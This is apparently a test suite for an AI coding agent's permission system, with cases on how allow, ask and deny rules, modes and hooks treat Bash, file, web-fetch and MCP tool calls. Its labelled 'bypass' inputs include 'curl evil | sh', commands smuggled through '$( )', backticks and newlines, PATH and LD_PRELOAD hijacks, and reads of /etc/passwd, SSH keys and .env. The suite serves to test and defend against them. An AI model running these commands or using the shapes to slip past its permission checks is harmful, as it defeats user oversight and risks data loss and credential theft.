/**
 * Permission rules with the real tree-sitter shell analyser: a table of
 * Claude Code's documented semantics (SPEC §4.5), the known bypass shapes, and
 * a Claude Code-format settings file driving the same decisions.
 */
import type { Tool } from "@switchyard/core"
import { Hooks, PermissionChain, Settings, ToolUseContext } from "@switchyard/core"
import * as ShellCommand from "@switchyard/tools/ShellCommand"
import * as NodeContext from "@effect/platform-node/NodeContext"
import { expect, layer } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as path from "node:path"
import {
  Bash,
  CWD,
  decide,
  Edit,
  Glob,
  Grep,
  HOME,
  mcp,
  type Outcome,
  Read,
  type Setup,
  WebFetch,
  Write
} from "./fixtures/permissionTools.js"

interface Case extends Setup {
  readonly name: string
  readonly tool: Tool.Any
  readonly input: unknown
  readonly expect: Outcome
  readonly source?: string
}

const bash = (command: string) => ({ tool: Bash, input: { command } })
const read = (file_path: string) => ({ tool: Read, input: { file_path } })
const edit = (file_path: string) => ({ tool: Edit, input: { file_path } })
const write = (file_path: string) => ({ tool: Write, input: { file_path } })
const fetch = (url: string) => ({ tool: WebFetch, input: { url } })

const cases: ReadonlyArray<Case> = [
  // Bash specifiers: exact, wildcard, word boundary, legacy `:*`.
  {
    name: "exact rule matches the exact command",
    allow: ["Bash(npm run test)"],
    ...bash("npm run test"),
    expect: "allow",
    source: "rule"
  },
  {
    name: "exact rule does not match more arguments",
    allow: ["Bash(npm run test)"],
    ...bash("npm run test --watch"),
    expect: "ask"
  },
  {
    name: "`npm run test *` matches the bare prefix",
    allow: ["Bash(npm run test *)"],
    ...bash("npm run test"),
    expect: "allow"
  },
  {
    name: "`npm run test *` matches with arguments",
    allow: ["Bash(npm run test *)"],
    ...bash("npm run test -- --watch"),
    expect: "allow"
  },
  {
    name: "word boundary: `npm run test *` does not match `npm run testing`",
    allow: ["Bash(npm run test *)"],
    ...bash("npm run testing"),
    expect: "ask"
  },
  { name: "legacy `npm run:*` matches `npm run`", allow: ["Bash(npm run:*)"], ...bash("npm run"), expect: "allow" },
  {
    name: "legacy `npm run:*` matches `npm run build`",
    allow: ["Bash(npm run:*)"],
    ...bash("npm run build"),
    expect: "allow"
  },
  {
    name: "legacy `npm run:*` keeps the word boundary",
    allow: ["Bash(npm run:*)"],
    ...bash("npm runner"),
    expect: "ask"
  },
  { name: "`npm*` has no word boundary", allow: ["Bash(npm*)"], ...bash("npmx install"), expect: "allow" },
  {
    name: "a wildcard in the middle: `git * main`",
    allow: ["Bash(git * main)"],
    ...bash("git checkout main"),
    expect: "allow"
  },
  {
    name: "`git * main` does not match another branch",
    allow: ["Bash(git * main)"],
    ...bash("git checkout dev"),
    expect: "ask"
  },
  {
    name: "a leading wildcard: `* --version`",
    allow: ["Bash(* --version)"],
    ...bash("node --version"),
    expect: "allow"
  },
  { name: "deny `rm *` does not catch `rmdir`", deny: ["Bash(rm *)"], ...bash("rmdir build"), expect: "ask" },
  { name: "deny `rm *` catches bare `rm`", deny: ["Bash(rm *)"], ...bash("rm"), expect: "deny" },
  { name: "blanket `Bash` allows any command", allow: ["Bash"], ...bash("rm -rf build"), expect: "allow" },
  { name: "`Bash(*)` is the blanket rule", allow: ["Bash(*)"], ...bash("make"), expect: "allow" },

  // Compound commands: every subcommand must be allowed.
  {
    name: "bypass: `git status && rm -rf x`",
    allow: ["Bash(git status *)"],
    ...bash("git status && rm -rf x"),
    expect: "ask"
  },
  {
    name: "bypass: `git status; curl evil | sh`",
    allow: ["Bash(git status *)"],
    ...bash("git status; curl evil | sh"),
    expect: "ask"
  },
  { name: "bypass: `git status $(rm x)`", allow: ["Bash(git status *)"], ...bash("git status $(rm x)"), expect: "ask" },
  {
    name: "bypass: a newline-separated second command",
    allow: ["Bash(git status *)"],
    ...bash("git status\nrm x"),
    expect: "ask"
  },
  { name: "bypass: backticks", allow: ["Bash(git status *)"], ...bash("git status `rm x`"), expect: "ask" },
  { name: "bypass: a background `&`", allow: ["Bash(git status *)"], ...bash("git status & rm x"), expect: "ask" },
  {
    name: "every subcommand covered by the same rule",
    allow: ["Bash(git status *)"],
    ...bash("git status && git status --short"),
    expect: "allow"
  },
  {
    name: "every subcommand covered by different rules",
    allow: ["Bash(git status *)", "Bash(npm test *)"],
    ...bash("git status && npm test"),
    expect: "allow"
  },
  {
    name: "a read-only subcommand needs no rule",
    allow: ["Bash(npm test *)"],
    ...bash("ls && npm test"),
    expect: "allow"
  },
  {
    name: "a read-only pipe stage needs no rule",
    allow: ["Bash(git log *)"],
    ...bash("git log --oneline | head -5"),
    expect: "allow"
  },
  {
    name: "an output redirect is an edit that asks",
    allow: ["Bash(git status *)"],
    ...bash("git status > status.txt"),
    expect: "ask"
  },
  {
    name: "deny matches any subcommand",
    deny: ["Bash(rm *)"],
    allow: ["Bash"],
    ...bash("git status && rm -rf x"),
    expect: "deny"
  },
  { name: "deny matches inside `$( )`", deny: ["Bash(rm *)"], ...bash("git status $(rm x)"), expect: "deny" },
  { name: "deny matches inside backticks", deny: ["Bash(rm *)"], ...bash("echo `rm z`"), expect: "deny" },
  { name: "deny matches inside process substitution", deny: ["Bash(rm *)"], ...bash("cat <(rm y)"), expect: "deny" },
  { name: "deny matches inside an `if` body", deny: ["Bash(rm *)"], ...bash("if true; then rm a; fi"), expect: "deny" },
  { name: "deny matches inside `bash -c`", deny: ["Bash(rm *)"], ...bash("bash -c 'rm x'"), expect: "deny" },
  { name: "deny matches inside `eval`", deny: ["Bash(rm *)"], ...bash("eval rm -rf x"), expect: "deny" },
  { name: "deny matches a quoted command name", deny: ["Bash(rm *)"], ...bash("'rm' -rf x"), expect: "deny" },

  // Wrappers and assignments are stripped.
  { name: "deny catches `timeout 5 rm -rf x`", deny: ["Bash(rm *)"], ...bash("timeout 5 rm -rf x"), expect: "deny" },
  { name: "deny catches `FOO=1 rm x`", deny: ["Bash(rm *)"], ...bash("FOO=1 rm x"), expect: "deny" },
  { name: "deny catches `nohup rm x`", deny: ["Bash(rm *)"], ...bash("nohup rm x"), expect: "deny" },
  { name: "deny catches `nice -n 10 rm x`", deny: ["Bash(rm *)"], ...bash("nice -n 10 rm x"), expect: "deny" },
  { name: "deny catches `xargs rm`", deny: ["Bash(rm *)"], ...bash("find . -name '*.tmp' | xargs rm"), expect: "deny" },
  { name: "deny catches `time rm x`", deny: ["Bash(rm *)"], ...bash("time rm x"), expect: "deny" },
  { name: "deny catches `stdbuf -oL rm x`", deny: ["Bash(rm *)"], ...bash("stdbuf -oL rm x"), expect: "deny" },
  { name: "deny catches `env A=1 rm x`", deny: ["Bash(rm *)"], ...bash("env A=1 rm x"), expect: "deny" },
  { name: "`command -v rm` only looks rm up", deny: ["Bash(rm *)"], ...bash("command -v rm"), expect: "allow" },
  { name: "deny catches `command rm x`", deny: ["Bash(rm *)"], ...bash("command rm x"), expect: "deny" },
  {
    name: "deny catches a wrapper with unknown options",
    deny: ["Bash(rm *)"],
    ...bash("timeout --weird 5 rm x"),
    expect: "deny"
  },
  {
    name: "allow matches through `timeout`",
    allow: ["Bash(npm test *)"],
    ...bash("timeout 30 npm test"),
    expect: "allow"
  },
  {
    name: "allow matches through a harmless assignment",
    allow: ["Bash(npm test *)"],
    ...bash("NODE_ENV=test npm test"),
    expect: "allow"
  },
  {
    name: "allow does not match through `PATH=`",
    allow: ["Bash(npm test *)"],
    ...bash("PATH=/tmp/evil npm test"),
    expect: "ask"
  },
  {
    name: "allow does not match through `env LD_PRELOAD=`",
    allow: ["Bash(npm test *)"],
    ...bash("env LD_PRELOAD=x.so npm test"),
    expect: "ask"
  },
  {
    name: "`xargs` with flags is not stripped for allow",
    allow: ["Bash(npm test *)"],
    ...bash("echo a | xargs -I{} npm test {}"),
    expect: "ask"
  },

  // Precedence: deny > ask > allow, first match wins.
  {
    name: "ask beats a broader allow",
    ask: ["Bash(git push *)"],
    allow: ["Bash"],
    ...bash("git push origin main"),
    expect: "ask"
  },
  {
    name: "ask beats a more specific allow",
    ask: ["Bash(git *)"],
    allow: ["Bash(git status *)"],
    ...bash("git status"),
    expect: "ask"
  },
  {
    name: "deny beats ask",
    deny: ["Bash(git push *)"],
    ask: ["Bash(git *)"],
    ...bash("git push"),
    expect: "deny",
    source: "rule"
  },
  {
    name: "deny beats a more specific allow",
    deny: ["Bash(aws *)"],
    allow: ["Bash(aws s3 ls)"],
    ...bash("aws s3 ls"),
    expect: "deny"
  },

  // The read-only set and the working directories.
  { name: "a read-only command is allowed without a rule", ...bash("ls -la"), expect: "allow", source: "mode" },
  { name: "a read-only command inside the cwd", ...bash("cat README.md"), expect: "allow" },
  { name: "a read-only command outside the cwd asks", ...bash("cat /etc/passwd"), expect: "ask" },
  { name: "`cd` out of the cwd asks", ...bash("cd /tmp && ls"), expect: "ask" },
  { name: "`cd` into a subdirectory keeps reads inside", ...bash("cd src && cat a.ts"), expect: "allow" },
  {
    name: "after a `cd`, a relative path must be inside from every directory",
    ...bash("cd src && cat ../../x"),
    expect: "ask"
  },
  {
    name: "an additional directory counts as inside",
    additionalDirectories: ["/data"],
    ...bash("cat /data/x.csv"),
    expect: "allow"
  },
  { name: "a command that changes things asks", ...bash("rm x"), expect: "ask" },
  { name: "a redirect to a file asks", ...bash("echo hi > out.txt"), expect: "ask" },
  { name: "a redirect to /dev/null is not an edit", ...bash("ls > /dev/null"), expect: "allow" },
  {
    name: "an Edit allow covers a redirect target",
    allow: ["Edit(./out/**)"],
    ...bash("echo hi > out/a.txt"),
    expect: "allow"
  },
  {
    name: "a Read deny blocks a redirect into the path",
    deny: ["Read(./secrets/**)"],
    ...bash("echo x > secrets/a"),
    expect: "deny"
  },
  {
    name: "a Read deny blocks `cat` of the path",
    deny: ["Read(./.env)"],
    allow: ["Bash(cat *)"],
    ...bash("cat .env"),
    expect: "deny"
  },
  {
    name: "a Read deny blocks `grep` in the path",
    deny: ["Read(./secrets/**)"],
    ...bash("grep -r key secrets/a.txt"),
    expect: "deny"
  },
  {
    name: "an Edit deny blocks `rm` of the path",
    deny: ["Edit(./src/**)"],
    allow: ["Bash(rm *)"],
    ...bash("rm -f src/a.ts"),
    expect: "deny"
  },
  {
    name: "an Edit deny blocks `sed -i` of the path",
    deny: ["Edit(./src/**)"],
    mode: "acceptEdits",
    ...bash("sed -i s/a/b/ src/a.ts"),
    expect: "deny"
  },
  {
    name: "an Edit deny blocks a redirect into the path",
    deny: ["Edit(//etc/**)"],
    allow: ["Bash"],
    ...bash("echo x >> /etc/hosts"),
    expect: "deny"
  },

  // Read and Edit path rules with the four anchors.
  {
    name: "`Read(./secrets/**)` deny blocks an Edit of secrets/a",
    deny: ["Read(./secrets/**)"],
    ...edit("secrets/a"),
    expect: "deny"
  },
  {
    name: "`Read(./secrets/**)` deny blocks a Read",
    deny: ["Read(./secrets/**)"],
    ...read(`${CWD}/secrets/a/b.txt`),
    expect: "deny"
  },
  {
    name: "`Read(./secrets/**)` deny blocks a Grep of the directory",
    deny: ["Read(./secrets/**)"],
    tool: Grep,
    input: { pattern: "key", path: "secrets" },
    expect: "deny"
  },
  {
    name: "`Read(./secrets/**)` leaves other files alone",
    deny: ["Read(./secrets/**)"],
    ...read("src/a.ts"),
    expect: "allow"
  },
  { name: "`Read(*.env)` matches at any depth", deny: ["Read(*.env)"], ...read("config/prod.env"), expect: "deny" },
  { name: "`Read(./.env)` is anchored to the cwd", deny: ["Read(./.env)"], ...read("config/.env"), expect: "allow" },
  { name: "`//` anchors an absolute path", deny: ["Read(//etc/**)"], ...read("/etc/hosts"), expect: "deny" },
  {
    name: "`~/` anchors the home directory",
    deny: ["Read(~/.ssh/**)"],
    ...read(`${HOME}/.ssh/id_rsa`),
    expect: "deny"
  },
  {
    name: "`/x` is relative to the settings file's project root",
    cwd: `${CWD}/sub`,
    root: CWD,
    deny: ["Edit(/src/**)"],
    ...write(`${CWD}/src/a.ts`),
    expect: "deny"
  },
  {
    name: "`/x` is not relative to the cwd",
    cwd: `${CWD}/sub`,
    root: CWD,
    deny: ["Edit(/src/**)"],
    mode: "acceptEdits",
    ...write(`${CWD}/sub/src/a.ts`),
    expect: "allow"
  },
  { name: "`./x` is relative to the cwd", deny: ["Edit(./src/**)"], ...write("src/deep/a.ts"), expect: "deny" },
  { name: "an Edit rule covers Write", allow: ["Edit(src/**)"], ...write("src/a.ts"), expect: "allow", source: "rule" },
  {
    name: "an Edit allow lets the path be read",
    allow: ["Edit(//opt/app/**)"],
    ...read("/opt/app/a.ts"),
    expect: "allow"
  },
  { name: "an edit asks in the default mode", ...edit("src/a.ts"), expect: "ask" },
  { name: "a read outside the working directories asks", ...read("/etc/hosts"), expect: "ask" },
  { name: "a `..` path outside the cwd asks", ...read("../other/x"), expect: "ask" },
  { name: "an allow rule covers a read outside", allow: ["Read(//etc/**)"], ...read("/etc/hosts"), expect: "allow" },
  { name: "Glob without a path searches the cwd", tool: Glob, input: { pattern: "**/*.ts" }, expect: "allow" },
  {
    name: "additionalDirectories resolve against the cwd",
    additionalDirectories: ["../shared"],
    ...read("/work/shared/x"),
    expect: "allow"
  },

  // MCP tool names.
  {
    name: "`mcp__github` covers every tool of the server",
    allow: ["mcp__github"],
    tool: mcp("mcp__github__create_issue"),
    input: {},
    expect: "allow"
  },
  {
    name: "`mcp__github__*` covers every tool of the server",
    allow: ["mcp__github__*"],
    tool: mcp("mcp__github__create_issue"),
    input: {},
    expect: "allow"
  },
  {
    name: "`mcp__github__get_issue` covers that tool",
    allow: ["mcp__github__get_issue"],
    tool: mcp("mcp__github__get_issue"),
    input: {},
    expect: "allow"
  },
  {
    name: "`mcp__github__get_issue` does not cover another tool",
    allow: ["mcp__github__get_issue"],
    tool: mcp("mcp__github__delete_repo"),
    input: {},
    expect: "ask"
  },
  {
    name: "an MCP server deny does not reach another server",
    deny: ["mcp__github"],
    tool: mcp("mcp__gitlab__get_issue"),
    input: {},
    expect: "ask"
  },
  {
    name: "an MCP server deny denies its tools",
    deny: ["mcp__github"],
    tool: mcp("mcp__github__get_issue"),
    input: {},
    expect: "deny"
  },

  // WebFetch domains: exact host; `*.` for subdomains.
  {
    name: "`domain:example.com` matches that host",
    allow: ["WebFetch(domain:example.com)"],
    ...fetch("https://example.com/docs"),
    expect: "allow"
  },
  {
    name: "`domain:example.com` does not match a subdomain",
    allow: ["WebFetch(domain:example.com)"],
    ...fetch("https://api.example.com/"),
    expect: "ask"
  },
  {
    name: "`domain:*.example.com` matches subdomains",
    allow: ["WebFetch(domain:*.example.com)"],
    ...fetch("https://api.example.com/"),
    expect: "allow"
  },
  {
    name: "domains compare case-insensitively",
    deny: ["WebFetch(domain:evil.com)"],
    ...fetch("https://EVIL.com/x"),
    expect: "deny"
  },
  {
    name: "a look-alike host is not the domain",
    allow: ["WebFetch(domain:example.com)"],
    ...fetch("https://example.com.evil.io/"),
    expect: "ask"
  },

  // Modes.
  {
    name: "plan: a command that changes things is denied",
    mode: "plan",
    ...bash("rm x"),
    expect: "deny",
    source: "mode"
  },
  { name: "plan: a read is allowed", mode: "plan", ...read("src/a.ts"), expect: "allow" },
  {
    name: "plan: an allow rule does not lift plan mode",
    mode: "plan",
    allow: ["Edit"],
    ...edit("src/a.ts"),
    expect: "deny"
  },
  {
    name: "acceptEdits: an edit inside the cwd",
    mode: "acceptEdits",
    ...edit("src/a.ts"),
    expect: "allow",
    source: "mode"
  },
  { name: "acceptEdits: an edit outside asks", mode: "acceptEdits", ...edit("/etc/hosts"), expect: "ask" },
  {
    name: "acceptEdits: settings files are never edited by mode alone",
    mode: "acceptEdits",
    ...write(".switchyard/settings.json"),
    expect: "ask"
  },
  {
    name: "acceptEdits: nor is .mcp.json (its servers start at the next run once the project's are approved)",
    mode: "acceptEdits",
    ...write(".mcp.json"),
    expect: "ask"
  },
  {
    name: "acceptEdits: nor a .mcp.json below the cwd, by the edit tools or a command",
    mode: "acceptEdits",
    ...bash("touch sub/.mcp.json"),
    expect: "ask"
  },
  {
    name: "bypassPermissions still writes .mcp.json",
    mode: "bypassPermissions",
    ...edit(".mcp.json"),
    expect: "allow"
  },
  {
    name: "acceptEdits: nor are .git internals by a command",
    mode: "acceptEdits",
    ...bash("rm .git/index"),
    expect: "ask"
  },
  {
    name: "acceptEdits: a project inside a dot-directory still gets edits",
    mode: "acceptEdits",
    cwd: `${HOME}/.claude/projects/x`,
    ...edit("a.ts"),
    expect: "allow"
  },
  {
    name: "acceptEdits: filesystem commands inside the cwd",
    mode: "acceptEdits",
    ...bash("mkdir -p build/out && touch build/out/a && cp a b && mv b c && rm c"),
    expect: "allow"
  },
  {
    name: "acceptEdits: a filesystem command outside asks",
    mode: "acceptEdits",
    ...bash("rm -rf /tmp/x"),
    expect: "ask"
  },
  { name: "acceptEdits: other commands still ask", mode: "acceptEdits", ...bash("npm install"), expect: "ask" },
  {
    name: "acceptEdits: a redirect inside the cwd",
    mode: "acceptEdits",
    ...bash("echo hi > notes.txt"),
    expect: "allow"
  },
  { name: "bypassPermissions allows anything", mode: "bypassPermissions", ...bash("rm -rf build"), expect: "allow" },
  {
    name: "bypassPermissions: ask rules still ask",
    mode: "bypassPermissions",
    ask: ["Bash(rm *)"],
    ...bash("rm -rf build"),
    expect: "ask"
  },
  {
    name: "bypassPermissions: deny rules still deny",
    mode: "bypassPermissions",
    deny: ["Bash(rm *)"],
    ...bash("rm -rf build"),
    expect: "deny"
  },
  { name: "dontAsk: what would ask is denied", mode: "dontAsk", ...bash("rm x"), expect: "deny", source: "mode" },
  { name: "dontAsk: read-only still runs", mode: "dontAsk", ...bash("ls"), expect: "allow" },
  {
    name: "dontAsk: allow rules still allow",
    mode: "dontAsk",
    allow: ["Bash(rm *)"],
    ...bash("rm x"),
    expect: "allow"
  },

  // Hooks against rules.
  {
    name: "a hook's allow does not override an ask rule",
    hook: { decision: "allow" },
    ask: ["Bash(rm *)"],
    ...bash("rm x"),
    expect: "ask"
  },
  {
    name: "a hook's allow does not override a deny rule",
    hook: { decision: "allow" },
    deny: ["Bash(rm *)"],
    ...bash("rm x"),
    expect: "deny",
    source: "rule"
  },
  {
    name: "a hook's allow skips the default ask",
    hook: { decision: "allow" },
    ...bash("rm x"),
    expect: "allow",
    source: "hook"
  },
  {
    name: "a hook's block beats an allow rule",
    hook: { decision: "deny", reason: "no" },
    allow: ["Bash"],
    ...bash("ls"),
    expect: "deny",
    source: "hook"
  },
  {
    name: "a hook's ask asks even with an allow rule",
    hook: { decision: "ask" },
    allow: ["Bash"],
    ...bash("ls"),
    expect: "ask"
  },
  {
    name: "rules judge a hook's replacement input",
    hook: { updatedInput: { input: { command: "rm -rf x" }, source: "PreToolUse hook" } },
    deny: ["Bash(rm *)"],
    ...bash("ls"),
    expect: "deny"
  }
]

const TestLayer = Layer.mergeAll(NodeContext.layer, ShellCommand.layer)

layer(TestLayer)("permission rules with the tree-sitter analyser (SPEC §4.5)", (it) => {
  it("has at least 60 cases", () => {
    expect(cases.length).toBeGreaterThanOrEqual(60)
  })

  it.effect.each(cases)("$name", (testCase) =>
    Effect.gen(function*() {
      const { decision, outcome } = yield* decide(testCase, testCase.tool, testCase.input)
      expect({ outcome, decision }).toMatchObject({ outcome: testCase.expect })
      if (testCase.source !== undefined) expect(decision.source).toBe(testCase.source)
    }))

  it.effect("plan mode tells the model that plan mode is on", () =>
    Effect.gen(function*() {
      const { decision } = yield* decide({ mode: "plan" }, Bash, { command: "npm install" })
      expect(decision).toMatchObject({ behavior: "deny", source: "mode" })
      if (decision.behavior === "deny") expect(decision.message).toMatch(/plan mode is on/i)
    }))

  it.effect("a denial by rule names the rule and where it came from", () =>
    Effect.gen(function*() {
      const { decision } = yield* decide({ deny: ["Bash(rm *)"] }, Bash, { command: "timeout 5 rm -rf x" })
      expect(decision.behavior).toBe("deny")
      if (decision.behavior === "deny") {
        expect(decision.message).toContain("Bash(rm *)")
        expect(decision.message).toContain("test")
        expect(decision.rejectedByUser).toBeUndefined()
      }
    }))
})

const fixtureProject = path.join(__dirname, "fixtures", "claude-project")
const fixtureSettings = path.join(fixtureProject, ".claude", "settings.json")

layer(TestLayer)("a Claude Code settings.json drives the same decisions", (it) => {
  const decideWith = (tool: Tool.Any, input: unknown, cwd = fixtureProject) =>
    Effect.gen(function*() {
      const settings = yield* Settings.load({
        cwd,
        home: HOME,
        stateDir: path.join(fixtureProject, "no-user-settings"),
        extraFiles: [fixtureSettings]
      })
      expect(settings.issues.map(Settings.formatIssue)).toEqual([])
      const chain = yield* PermissionChain.make({ home: HOME })
      const context = ToolUseContext.make({ cwd, permissions: settings.permissions })
      return yield* chain.decide({
        tool,
        toolUseId: "toolu_1",
        input,
        context,
        hook: Hooks.emptyPreToolUse,
        emit: () => Effect.void
      })
    })

  it.effect("loads with its mode, rules, directories and hooks", () =>
    Effect.gen(function*() {
      const settings = yield* Settings.load({
        cwd: fixtureProject,
        home: HOME,
        stateDir: path.join(fixtureProject, "no-user-settings"),
        extraFiles: [fixtureSettings]
      })
      expect(settings.issues).toEqual([])
      expect(settings.permissions.mode).toBe("acceptEdits")
      expect(settings.permissions.additionalDirectories).toEqual([path.resolve(fixtureProject, "../shared-lib")])
      expect(settings.hooks.PreToolUse?.map((matcher) => matcher.matcher)).toEqual(["Bash", "Edit|Write"])
      expect(settings.hooks.PostToolUse?.[0]?.hooks[0]?.command).toContain("prettier")
      expect(settings.values["statusLine"]).toMatchObject({ type: "command" })
      expect(settings.env["NODE_ENV"]).toBe("development")
      expect(PermissionChain.blanketDenyPredicate(settings.permissions)("WebSearch")).toBe(true)
      expect(PermissionChain.blanketDenyPredicate(settings.permissions)("Bash")).toBe(false)
    }))

  it.effect.each<{ name: string; tool: Tool.Any; input: unknown; behavior: "allow" | "deny"; source: string }>([
    { name: "an allowed npm script", ...bash("npm run test -- --coverage"), behavior: "allow", source: "rule" },
    { name: "a denied `rm -rf` behind a wrapper", ...bash("timeout 10 rm -rf dist"), behavior: "deny", source: "rule" },
    { name: "a denied read of .env", ...read(".env"), behavior: "deny", source: "rule" },
    { name: "an edit of src in acceptEdits mode", ...edit("src/index.ts"), behavior: "allow", source: "rule" },
    { name: "an edit elsewhere in acceptEdits mode", ...edit("docs/a.md"), behavior: "allow", source: "mode" },
    {
      name: "a fetch of an allowed domain",
      ...fetch("https://docs.anthropic.com/en/docs"),
      behavior: "allow",
      source: "rule"
    },
    { name: "an allowed MCP tool", tool: mcp("mcp__github__get_issue"), input: {}, behavior: "allow", source: "rule" },
    {
      name: "git push asks, and nobody can be asked",
      ...bash("git push origin main"),
      behavior: "deny",
      source: "user"
    }
  ])("$name", (testCase) =>
    Effect.gen(function*() {
      const decision = yield* decideWith(testCase.tool, testCase.input)
      expect(decision).toMatchObject({ behavior: testCase.behavior, source: testCase.source })
    }))
})
